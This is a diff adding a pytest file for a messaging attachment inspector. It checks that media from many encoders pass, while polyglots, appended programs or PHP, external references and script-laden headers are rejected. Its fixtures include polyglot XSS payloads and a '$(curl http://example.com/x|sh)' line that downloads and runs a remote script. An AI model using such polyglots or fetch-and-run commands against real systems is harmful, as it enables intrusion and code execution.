@@ -1,0 +1,212 @@
+"""Pictures, recordings and films of all makers are let in where a policy allows them, and what hides in them is not."""
+
+from __future__ import annotations
+
+import random
+from pathlib import Path
+
+import pytest
+
+from consumer.inspection.examination import examine
+from consumer.inspection.policy.policy import SHIPPED, Policy
+from consumer.inspection.readers.media import bmp
+from consumer.inspection.readers.media.ends import ENDS
+from consumer.inspection.readers.seen import Seen
+from consumer.model import Facts, Reason
+from tests.inspection import media
+from tests.inspection.files import attachment, program
+from tests.inspection.judging import DETECTOR
+from tests.inspection.media import SAMPLES, TYPES, kind
+from tests.inspection.polyglots import HTML, PHP, ZIP, further_files, second_files
+
+MESSAGING = Policy.load(Path(SHIPPED).with_name("messaging.toml"))
+MORE = ("image/svg+xml", "video/x-matroska", "video/ogg")
+OPENED = MESSAGING.model_copy(
+    update={"types": {**MESSAGING.types, **dict.fromkeys(MORE, MESSAGING.types["image/webp"])}}
+)
+HOSTILE = {"a program": program(), "a ZIP archive": ZIP, "a page": HTML, "a server's page": PHP}
+BEHIND = second_files() | further_files()
+WORDS = b'DSC(1).jpg <b onclick=x> plt.plot(x) online="true" <script>alert(1)</script> {"a": f(1)} +49 (0) 30'
+LIVE = {
+    "chromium.webm",
+    "ffmpeg_live.webm",
+    "gstreamer_live.webm",
+    "ffmpeg_frag.mp4",
+    "ffmpeg_frag2.mp4",
+    "gstreamer_frag.mp4",
+    "ffmpeg_pipe.wav",
+}
+NO_END = {"mp3", "aac", "amr", "opus", "ogg", "oga", "ogv"}
+"""Kinds that nothing ends, or whose end a recorder that was stopped does not write."""
+
+
+def seen(data: bytes) -> Seen:
+    return examine(data, DETECTOR)
+
+
+def verdict(data: bytes, name: str) -> Reason | None:
+    found = seen(data)
+    facts = Facts(size=len(data), detected_type=found.detected_type, findings=tuple(found.findings))
+    return OPENED.decide(attachment(name), facts)
+
+
+@pytest.mark.parametrize("name", SAMPLES)
+def test_what_people_send_is_let_in(name: str) -> None:
+    assert verdict(SAMPLES[name], name) is None
+
+
+@pytest.mark.parametrize("name", sorted(SAMPLES.keys() - {"ffmpeg_audio.mp4", "gstreamer.m4a"}))
+def test_the_type_is_the_one_that_the_maker_named(name: str) -> None:
+    assert seen(SAMPLES[name]).detected_type == TYPES[kind(name)]
+
+
+def test_a_film_without_a_picture_is_a_recording_and_of_one_family_with_films() -> None:
+    assert seen(SAMPLES["ffmpeg_audio.mp4"]).detected_type == "audio/mp4"
+    assert seen(SAMPLES["gstreamer.m4a"]).detected_type == "video/quicktime"
+
+
+def test_every_type_has_files_of_three_makers() -> None:
+    makers: dict[str, set[str]] = {}
+    for name in SAMPLES:
+        makers.setdefault(TYPES[kind(name)], set()).add(name.replace(".", "_").partition("_")[0])
+    few = {name: known for name, known in makers.items() if len(known) < 3}
+    assert few.keys() <= {"audio/amr", "video/ogg"}
+
+
+def test_for_every_type_it_is_written_what_marks_its_end() -> None:
+    assert {TYPES[kind(name)] for name in SAMPLES} <= {name for end in ENDS for name in end.types}
+
+
+@pytest.mark.parametrize("name", SAMPLES)
+@pytest.mark.parametrize("second", HOSTILE)
+def test_what_stands_behind_is_not_let_in(name: str, second: str) -> None:
+    assert verdict(SAMPLES[name] + HOSTILE[second], name) is not None
+
+
+@pytest.mark.parametrize("second", BEHIND)
+@pytest.mark.parametrize("name", ["cwebp.webp", "heifenc.heic", "lame.mp3", "sox.amr", "xiph.opus", "ffmpeg_plain.mp4"])
+def test_every_second_format_behind_is_told_from_junk(name: str, second: str) -> None:
+    assert verdict(SAMPLES[name] + BEHIND[second], name) is not None
+
+
+@pytest.mark.parametrize("place", media.PLACES)
+@pytest.mark.parametrize("second", HOSTILE)
+def test_what_stands_where_nobody_looks_is_not_let_in(place: str, second: str) -> None:
+    assert verdict(media.PLACES[place](HOSTILE[second]), f"a.{place.partition(',')[0]}") is not None
+
+
+@pytest.mark.parametrize("place", media.PLACES)
+def test_what_makers_keep_for_themselves_is_let_in(place: str) -> None:
+    for hidden in (bytes(200), random.Random(place).randbytes(200), b"Camera 7 (C) Acme, firmware 1.2\n" * 9):
+        assert verdict(media.PLACES[place](hidden), f"a.{place.partition(',')[0]}") is None
+
+
+@pytest.mark.parametrize("place", media.TEXTS)
+def test_no_word_of_a_text_rejects(place: str) -> None:
+    assert verdict(media.TEXTS[place](WORDS), f"a.{place.partition(',')[0]}") is None
+
+
+@pytest.mark.parametrize("place", media.TEXTS)
+def test_a_text_that_a_web_server_runs_is_not_let_in(place: str) -> None:
+    assert verdict(media.TEXTS[place](b"x " + PHP), f"a.{place.partition(',')[0]}") is Reason.SECOND_FORMAT
+
+
+@pytest.mark.parametrize("how", media.encrypted())
+def test_what_needs_a_key_is_told(how: str) -> None:
+    assert verdict(media.encrypted()[how], f"a.{how.partition(',')[0].partition(' ')[0]}") is Reason.ENCRYPTED
+
+
+@pytest.mark.parametrize("what", media.headers())
+def test_a_header_and_no_more_is_broken(what: str) -> None:
+    assert verdict(media.headers()[what], f"a.{what.partition(',')[0]}") is Reason.MALFORMED
+
+
+def cuts(data: bytes) -> list[bytes]:
+    return [data[: len(data) * part // 64] for part in range(1, 64)]
+
+
+@pytest.mark.parametrize("name", sorted(name for name in SAMPLES if name not in LIVE and kind(name) not in NO_END))
+def test_a_file_that_says_how_long_it_is_is_broken_when_it_is_cut(name: str) -> None:
+    short = [cut for cut in cuts(SAMPLES[name]) if len(cut) < len(SAMPLES[name]) - bmp.LEFT_OUT]
+    assert {verdict(cut, name) for cut in short} <= {
+        Reason.MALFORMED, Reason.CONTENT_NOT_ALLOWED, Reason.TYPE_MISMATCH,
+    }  # fmt: skip
+
+
+@pytest.mark.parametrize("name", sorted(name for name in SAMPLES if name in LIVE or kind(name) in NO_END))
+def test_a_recording_that_stopped_is_let_in_from_its_first_sound_on(name: str) -> None:
+    verdicts = [verdict(cut, name) for cut in cuts(SAMPLES[name])]
+    if kind(name).startswith("o") and SAMPLES[name].count(b"OggS") < 4:
+        assert set(verdicts) == {Reason.MALFORMED}, "all of its sound is in one page"
+        return
+    first = verdicts.index(None)
+    assert Reason.SECOND_FORMAT not in verdicts
+    assert kind(name) == "mp4" or set(verdicts[first:]) == {None}, "only the index of a fragment is written at once"
+
+
+def test_half_a_last_frame_is_a_recording_that_stopped() -> None:
+    for name in ("lame.mp3", "ffmpeg_shine.mp3", "ffmpeg.aac", "sox.amr"):
+        found = seen(SAMPLES[name][:-9])
+        assert found.findings == []
+        assert "incomplete" in found.flags
+
+
+@pytest.mark.parametrize("size", [0, 0x7FFFF000, 0x80000000, 0xFFFFFFFF])
+def test_a_wave_that_does_not_know_its_length_ends_where_the_file_does(size: int) -> None:
+    wave = SAMPLES["python.wav"]
+    place = wave.index(b"data") + 4
+    unknown = wave[:4] + size.to_bytes(4, "little") + wave[8:place] + size.to_bytes(4, "little") + wave[place + 4 :]
+    assert verdict(unknown, "a.wav") is None
+    assert seen(unknown).flags == ["incomplete"]
+
+
+def test_what_is_attached_to_a_film_is_told_or_not_let_in() -> None:
+    font = b"\0\1\0\0\0\x0a\0\x80\0\3\0\x20" + bytes(200)
+    assert verdict(media.webm(media.attachment(b"serif.ttf", font)), "a.webm") is None
+    assert seen(media.webm(media.attachment(b"serif.ttf", font))).has(Reason.EMBEDDED_FILES)
+    for name, content in ((b"a.png", program()), (b"a.exe", b"words of no harm"), (b"a.htm", HTML)):
+        assert verdict(media.webm(media.attachment(name, content)), "a.webm") is not None
+
+
+def test_a_cover_is_a_picture_and_a_program_for_a_cover_is_not() -> None:
+    cover = b"\0image/png\0\3\0"
+    assert seen(SAMPLES["ffmpeg_cover.mp3"]).findings == []
+    fake = media.tag(media.frame(b"APIC", cover + program())) + SAMPLES["lame.mp3"]
+    assert verdict(fake, "a.mp3") is not None
+
+
+def test_a_film_that_is_elsewhere_is_not_let_in() -> None:
+    film = SAMPLES["ffmpeg_plain.mp4"]
+    place = film.index(b"url \0\0\0\1")
+    assert verdict(film[: place + 7] + b"\0" + film[place + 8 :], "a.mp4") is Reason.EXTERNAL_REFERENCE
+
+
+def test_a_profile_of_colors_that_is_elsewhere_is_not_let_in() -> None:
+    header = bytearray(124)
+    header[0:16] = (124).to_bytes(4, "little") + (8).to_bytes(4, "little") * 2 + b"\1\0\x18\0"
+    header[56:60] = b"KNIL"
+    assert verdict(media.bmp(header=bytes(header)), "a.bmp") is Reason.EXTERNAL_REFERENCE
+
+
+@pytest.mark.parametrize(
+    ("name", "data"),
+    [
+        ("a.bmp", b"BM/*" + media.bmp()[4:] + b"*/=1;alert(1)"),
+        ("a.webp", b"RIFF/*\0\0" + SAMPLES["cwebp.webp"][8:] + b"".ljust(0x2A2F, b" ") + b"*/=1;alert(1)"),
+        ("a.amr", b"#!AMR\n" + b"$=1;alert(document.domain)/*" + bytes(60) + b"*/"),
+        ("a.amr", b"#!AMR\n" + b"$(curl http://example.com/x|sh)\n" + bytes(60)),
+    ],
+)
+def test_what_begins_as_a_script_is_not_let_in(name: str, data: bytes) -> None:
+    assert verdict(data, name) is not None
+
+
+@pytest.mark.parametrize("seed", range(6))
+def test_nothing_that_is_bent_makes_an_examination_fail(seed: int) -> None:
+    chance = random.Random(seed)
+    for data in SAMPLES.values():
+        bent = bytearray(data)
+        for _ in range(chance.choice((1, 2, 8))):
+            place = int(len(bent) * chance.random() ** 2)
+            bent[place : place + 4] = chance.choice((b"\xff" * 4, bytes(4), b"\0\0\0\1", chance.randbytes(4)))
+        assert seen(bytes(bent)).detected_type
